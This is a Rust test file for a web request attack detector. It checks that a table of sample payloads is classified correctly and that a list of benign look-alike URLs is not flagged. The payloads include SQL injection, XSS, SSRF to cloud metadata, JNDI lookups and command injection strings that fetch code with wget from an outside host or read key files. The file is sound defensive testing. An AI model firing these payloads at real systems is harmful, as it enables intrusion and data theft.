use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;
use crate::event::Event;
use crate::hash::{Keys, NameHash};

/// The classes that reach the normal sensitivity in a request for `target`.
fn classes(target: &str) -> Vec<&'static str> {
    let mut event = Event { method: Some(b"GET"), ..Event::default() };
    event.set_target(target.as_bytes());
    seen(&event)
}

/// The classes that reach the normal sensitivity in an event.
fn seen(event: &Event<'_>) -> Vec<&'static str> {
    let mut reader = Reader::default();
    let signals = reader.read(event).iter().filter(|signal| Sensitivity::Normal.score() <= signal.score);
    signals.map(|signal| signal.class.name()).collect()
}

/// One attack of each class and more, each written by us.
const ATTACKS: &[(&str, &str)] = &[
    ("sqli", "/item?id=7%27%20or%20%27k%27=%27k"),
    ("sqli", "/item/7'%20union%20select%201,2--%20"),
    ("xss", "/find?q=%3Cscript%3Ego()%3C/script%3E"),
    ("xss", "/find?q=%22%20onpointerenter=go(7)%20x=%22"),
    ("xss", "/find?q=%3Cx/onwheel=go()%3E"),
    ("xss", "/find?next=java%09script:go(7)"),
    ("xss", "/find?q=(confirm)(7)"),
    ("xss", "/find?q=%26lt;svg/onload%26equals;go()%26gt;"),
    ("path-traversal", "/static/..%2f..%2f..%2fsrv/app.conf"),
    ("path-traversal", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/x"),
    ("path-traversal", "/a/..;/..;/manager/html"),
    ("path-traversal", "/show?doc=..%5c..%5c..%5cboot"),
    ("file-inclusion", "/show?doc=/etc//./passwd"),
    ("file-inclusion", "/show?page=php://filter/convert.base64-encode/resource=index"),
    ("file-inclusion", "/show?page=http://198.51.100.7/x.txt?"),
    ("command-injection", "/ping?host=192.0.2.1;cat%20/srv/key"),
    ("command-injection", "/ping?host=192.0.2.1%7C%7Cwget%20http://198.51.100.7/x"),
    ("command-injection", "/ping?host=$(whoami)"),
    ("command-injection", "/ping?host=x%60uname%20-a%60"),
    ("command-injection", "/ping?host=x;cat$%7BIFS%7D/srv/key"),
    ("code-injection", "/say?name=%7B%7B8*8%7D%7D"),
    ("code-injection", "/say?name=$%7BT(java.lang.Runtime).getRuntime()%7D"),
    ("code-injection", "/say?name=%3C?php%20phpinfo();"),
    ("code-injection", "/say?class.module.classLoader.resources.x=7"),
    ("jndi", "/log?who=$%7Bjndi:ldap://198.51.100.7/x%7D"),
    ("jndi", "/log?who=$%7B$%7Blower:j%7D$%7B::-n%7Ddi:rmi://198.51.100.7/x%7D"),
    ("ssrf", "/fetch?url=http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "/fetch?url=http://2130706433/"),
    ("ssrf", "/fetch?url=http://0x7f.1/"),
    ("ssrf", "/fetch?url=http://0177.0.0.1/"),
    ("ssrf", "/fetch?url=http://%5B::ffff:127.0.0.1%5D/"),
    ("ssrf", "/fetch?url=gopher://192.0.2.1:6379/_x"),
    ("session-fixation", "/go?x=%3Cmeta%20http-equiv=set-cookie%20content=sid=7%3E"),
    ("nosql", "/login?name[$ne]=x"),
    ("nosql", "/login?name=%7B%22$gt%22:%22%22%7D"),
    ("ldap", "/who?name=*)(uid=*))(%7C(uid=*"),
    ("mail", "/contact?from=a@b.example%0d%0aBcc:%20c@d.example"),
    ("mail", "/contact?box=x%0d%0aA7%20LOGOUT"),
    ("ssi", "/say?name=%3C!--%23exec%20cmd=x--%3E"),
    ("xxe", "/in?doc=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file:///x%22%3E%5D%3E"),
    ("protocol", "/go?to=x%0d%0aSet-Cookie:%20a=b"),
    ("protocol", "/go/%E5%98%8A%E5%98%8DLocation:%20/x"),
    ("scanner", "/go?x=http://abc.oastify.com/"),
    ("sensitive-file", "/.git/config"),
    ("sensitive-file", "/app/.env.production"),
    ("sensitive-file", "/backup.zip"),
    ("sensitive-file", "/dump/site.sql"),
    ("webshell", "/uploads/c99.php"),
    ("command-injection", "/ping?host=%7Bls,-la%7D"),
    ("command-injection", "/ping?host=x;/b??/c?t%20/srv/key"),
    ("command-injection", "/ping?host=192.0.2.1%7Cid"),
    ("command-injection", "/ping?host=x%0aid"),
    ("code-injection", "/say?o=O:4:%22Shop%22:1:%7Bs:1:%22a%22;i:1;%7D"),
    ("code-injection", "/say?o=rO0ABXNyAARTaG9w"),
    ("code-injection", "/say?page=data://text/plain;base64,PD9waHAgZ28oKTs%2FPg=="),
    ("ssrf", "/fetch?url=http://localhost:6379/"),
    ("ssrf", "/fetch?url=http%3A%2F%2F%5B%3A%3Affff%3Aa9fe%3Aa9fe%5D%2Flatest%2F"),
    ("ssrf", "/fetch?url=http://make-169.254.169.254-rr.1u.ms/latest/"),
    ("ssrf", "/fetch?url=http%3A%2F%2Fkubernetes.default.svc"),
    ("ssrf", "/fetch?url=//2130706433/"),
    ("sensitive-file", "/builds/players-202501.dump.gz"),
    ("sensitive-file", "/shop-backup.zip"),
    ("sensitive-file", "/blog/wp-content/plugins/forms/readme.txt"),
    ("nosql", "/find?q=%27;%20return%20true;%20var%20a=%27"),
    ("sqli", "/login?user=anna%27--%20-"),
    ("sqli", "/login?user=anna%27/*"),
    ("webshell", "/x.php?cmd=whoami"),
];

#[test]
fn every_class_is_seen() {
    for (class, target) in ATTACKS {
        assert!(classes(target).contains(class), "{target} shows {:?}, not {class}", classes(target));
    }
    let missing: Vec<_> = Class::ALL
        .iter()
        .map(|class| class.name())
        .filter(|name| !ATTACKS.iter().any(|(class, _)| class == name))
        .collect();
    assert_eq!(missing, ["sigma"], "rules of the user's are judged elsewhere");
}

/// Targets that hold signs of code and are none.
const ORDINARY: &[&str] = &[
    "/",
    "/api/v1/orders/700123?page=2&sort=-created,name",
    "/search?q=union+jack+mug",
    "/search?q=O%27Neill%20jacket",
    "/search?q=rock+%26+roll",
    "/search?q=i+%3C3+you",
    "/search?q=3+%2B+4+%3D+7",
    "/search?q=(a+%2B+b)+*+c",
    "/search?q=50%25+off",
    "/search?q=c%2B%2B+%3Cvector%3E",
    "/search?q=JavaScript:+the+good+parts",
    "/search?q=alert+system",
    "/search?q=fish+%26+cat+food",
    "/search?q=tom;jerry",
    "/search?q=%C3%A9t%C3%A9+%F0%9F%8C%9E",
    "/items?filter=%7B%22name%22:%22Anna%22,%22age%22:%7B%22min%22:5%7D%7D",
    "/items?$filter=price%20lt%205%20and%20name%20eq%20%27x%27&$top=5&$orderby=name",
    "/items?ids[]=1&ids[]=2&sort[name]=asc",
    "/graphql?query=%7Buser(id:%225%22)%7Bname%7D%7D",
    "/items?cursor=eyJpZCI6MTIzLCJkaXIiOiJuZXh0In0",
    "/node/VXNlcjoxMjM0NTY3",
    "/login?next=/account%3Ftab=orders",
    "/login?redirect_uri=https://app.example.com/callback&state=Zm9vYmFy",
    "/oauth?redirect_uri=http://localhost:3000/callback",
    "/map?bbox=8.5,47.3,8.6,47.4&center=47.37,8.54",
    "/w/index.php?title=Talk:Main_Page&action=edit",
    "/wiki/AC/DC",
    "/wiki/C*-algebra_(mathematics)",
    "/wiki/What's_Up_(song)",
    "/shop;jsessionid=0A1B2C3D?item=5",
    "/static/js/app.4f2a9c81.js.map",
    "/.well-known/openid-configuration",
    "/actuator/health",
    "/fonts/Inter-Regular.woff2?v=3.19",
    "/img/photo@2x.png",
    "/img/..photo.png",
    "/files/report%20(final).pdf",
    "/t?utm_source=news&utm_campaign=a%7Cb%7Cc",
    "/t?e=click&d=%5B%7B%22k%22:1%7D%5D&ts=1700000000000",
    "/t?u=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3Dc%26d%3De",
    "/v?when=2026-03-10T00:00:00%2B01:00",
    "/v?color=%23ff0000&size=10px;20px",
    "/v?email=anna.o'neil%40example.com",
    "/v?template=%7B%7Bname%7D%7D",
    "/v?range=5-10&expr=a..b",
    "/v?phone=(555)%20010-9999",
    "/v?comment=first%20line%0D%0Asecond%20line%0D%0Adata%20follows",
    "/download?path=reports/2026/march.pdf",
    "/search?q=why+a+%3Cscript%3E+tag+waits",
    "/search?q=what+does+eval()+do",
    "/search?q=sleep(8)+hours+a+day",
    "/search?q=learn+to+SELECT+*+FROM+scratch",
    "/search?q=/var/log/syslog+keeps+growing",
    "/search?q=%5C%5Cprinters%5Cfloor2",
    "/search?q=report+%231;+copy+%26+share.odt",
    "/items?filter=%7B%22stock%22:%7B%22$gte%22:7,%22$lt%22:90%7D%7D",
    "/items?where=%7B%22$or%22:%5B%7B%22tag%22:%7B%22$in%22:%5B%22a%22%5D%7D%7D%5D%7D",
    "/v?snippet=x+%3D+%27a%27;+return+true",
    "/oai?verb=ListRecords&resumptionToken=marc/50/2026-01-01T00:00:00Z//0/0/1",
    "/fetch?url=http://[2001:db8::1]/a.png",
    "/downloads/backup-tool-1.2.tar.gz",
    "/downloads/plugins/readme.txt",
    "/help/backup/restore.html",
];

#[test]
fn ordinary_requests_show_nothing() {
    for target in ORDINARY {
        assert_eq!(classes(target), [""; 0], "{target}");
    }
}

/// Whether something that reaches the normal sensitivity is seen at a glance.
fn is_seen_at_a_glance(event: &Event<'_>) -> bool {
    let agent = event.user_agent.map_or(NameHash::NONE, |agent| Keys::default().name(agent));
    let mut glance = Glance::default();
    let of_path = event.path.and_then(|path| glance.path(path, Reached::default(), path));
    let shown = glance.shown(event, agent, of_path);
    Sensitivity::Normal.score() <= shown.score()
}

#[test]
fn a_glance_misses_nothing_and_takes_little_apart() {
    for (_, target) in ATTACKS {
        let mut event = Event { method: Some(b"GET"), ..Event::default() };
        event.set_target(target.as_bytes());
        assert!(is_seen_at_a_glance(&event), "{target}");
    }
    for target in ORDINARY {
        let mut event = Event { method: Some(b"GET"), ..Event::default() };
        event.set_target(target.as_bytes());
        assert!(!is_seen_at_a_glance(&event), "{target}");
    }
    let busy = [
        "/",
        "/api/v1/orders/700123?page=2&sort=-created,name",
        "/img/a.png?v=3.19",
        "/items?ids[]=1&who=a@b.example",
    ];
    for target in busy {
        let mut event = Event {
            method: Some(b"GET"),
            referer: Some(b"https://www.example.com/a?b=c&d=1"),
            ..Event::default()
        };
        event.set_target(target.as_bytes());
        let path = event.path.unwrap_or_default();
        let of_path = Glance::default().path(path, Reached::default(), path);
        assert_eq!(of_path, Some(Shown::default()), "{target}");
        assert!(super::glance::is_quiet_beside(&event), "{target}");
    }
}

#[test]
fn a_path_and_an_agent_that_show_nothing_are_left_out_and_all_others_are_not() {
    let agents = ["curl/8.1", "Mozilla/5.0 \"x\"", "sqlmap/1.8", "x' or 'k'='k"];
    let referers =
        [None, Some("https://www.example.com/a\"b"), Some("https://x.example/?q=%3Cscript%3Ego()")];
    let targets = ATTACKS.iter().map(|(_, target)| *target).chain(ORDINARY.iter().copied());
    let (mut shown, mut quiet) = (0, 0);
    for target in targets.chain(["/a\"b", "/uploads/x.php?c=id"]) {
        for (agent, referer) in agents.iter().flat_map(|agent| referers.map(|referer| (agent, referer))) {
            let (agent, referer) = (Some(agent.as_bytes()), referer.map(str::as_bytes));
            let mut event = Event { method: Some(b"GET"), user_agent: agent, referer, ..Event::default() };
            event.set_target(target.as_bytes());
            let path = event.path.unwrap_or_default();
            let of_path = Glance::default().path(path, Reached::default(), path);
            let name = Keys::default().name(agent.unwrap_or_default());
            if super::glance::is_quiet_beside(&event) && !super::glance::asks_planted(&event) {
                continue;
            }
            let known = Glance::default().shown(&event, name, of_path);
            let of_agent = Event { user_agent: agent, ..Event::default() };
            let of_agent = Shown::of(Reader::default().read(&of_agent));
            let whole = Glance::default().shown(&event, NameHash::NONE, None).with(of_agent);
            assert_eq!(known, whole, "{target} {agent:?} {referer:?}");
            shown += usize::from(known != Shown::default());
            quiet += usize::from(of_path == Some(Shown::default()));
        }
    }
    assert!(shown > 100 && quiet > 100, "{shown} {quiet}");
}

#[test]
fn an_answer_that_came_as_late_as_was_asked_for_is_noted() {
    for (micros, late) in [(5_200_000, true), (4_900_000, false), (7_000_000, false), (100_000, false)] {
        let mut event = Event { duration: Some(micros), ..Event::default() };
        event.set_target(b"/item?id=7%27%20and%20sleep(5)--%20");
        let shown = Glance::default().shown(&event, NameHash::NONE, None);
        assert_eq!((shown.class(), shown.has_waited()), (Some(Class::Sqli), late), "{micros}");
    }
}

#[test]
fn agents_and_referring_pages_are_judged_as_such() {
    let agent = |agent: &'static str| seen(&Event { user_agent: Some(agent.as_bytes()), ..Event::default() });
    assert_eq!(agent("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"), [""; 0]);
    assert_eq!(agent("Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)"), [""; 0]);
    assert_eq!(agent("sqlmap/1.8 (https://example.com)"), ["scanner"]);
    assert_eq!(agent("() { :;}; /bin/ping -c 3 192.0.2.1"), ["command-injection"]);
    assert_eq!(agent("${jndi:dns://192.0.2.1/x}"), ["jndi"]);
    let referer = |page: &'static str| seen(&Event { referer: Some(page.as_bytes()), ..Event::default() });
    assert_eq!(referer("https://www.example.com/find?q=rock%20%27n%27%20roll"), [""; 0]);
    assert_eq!(
        referer("https://www.example.com/?q=7%27%20union%20select%201,2%20from%20staff--%20"),
        ["sqli"]
    );
}

#[test]
fn a_signal_tells_where_it_was_seen_and_what_hid_it() {
    let mut event = Event::default();
    event.set_target(b"/a?x=1&q=%253Cscript%253Ego()");
    let mut reader = Reader::default();
    let signals = reader.read(&event);
    assert_eq!(signals.len(), 1, "{signals:?}");
    let signal = signals[0];
    assert_eq!((signal.class, signal.field, signal.rule), (Class::Xss, Field::Query, "gh-xss-tag"));
    assert_eq!(signal.decoded.names().collect::<Vec<_>>(), ["percent", "double-percent"]);
    assert_eq!(Signals::of(signals).strongest(), Some((Class::Xss, signal.score)));
}

#[test]
fn a_remembered_agent_shows_the_same_again() {
    let event = Event { user_agent: Some(b"nikto"), ..Event::default() };
    let mut reader = Reader::default();
    let first = reader.read(&event).to_vec();
    assert_eq!(reader.read(&event), first);
    assert!(!first.is_empty());
}

#[test]
fn hostile_texts_take_linear_time() {
    for part in [
        "'", "\"", "${", "%25", "<", "<a on", "(", "or(", "or 1=", "..", "../", "&", "&#", "\\u", "select(",
        "{{", "/*", "$(", "`", "\r\nto:", "on", "(a=", ":=",
    ] {
        let text = part.repeat(64 * 1024 / part.len());
        let event = Event {
            path: Some(text.as_bytes()),
            query: Some(text.as_bytes()),
            user_agent: Some(text.as_bytes()),
            ..Event::default()
        };
        let start = Instant::now();
        Reader::default().read(&event);
        assert!(start.elapsed() < Duration::from_secs(2), "{part}: {:?}", start.elapsed());
    }
}

proptest! {
    #[test]
    fn no_bytes_make_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        let event = Event { path: Some(&bytes), query: Some(&bytes), user_agent: Some(&bytes), referer: Some(&bytes), raw_request: Some(&bytes), method: Some(&bytes), ..Event::default() };
        Reader::default().read(&event);
    }

    #[test]
    fn no_code_makes_it_panic(text in "([<>(){}'\"`;|&$%\\\\/.:=#*@!~ ,-]|select|union|or|and|on|from|%2|&#|\\\\u|\\$\\{|jndi:|script|0x|case|when){0,60}") {
        let event = Event { path: Some(text.as_bytes()), query: Some(text.as_bytes()), user_agent: Some(text.as_bytes()), referer: Some(text.as_bytes()), ..Event::default() };
        Reader::default().read(&event);
    }
}
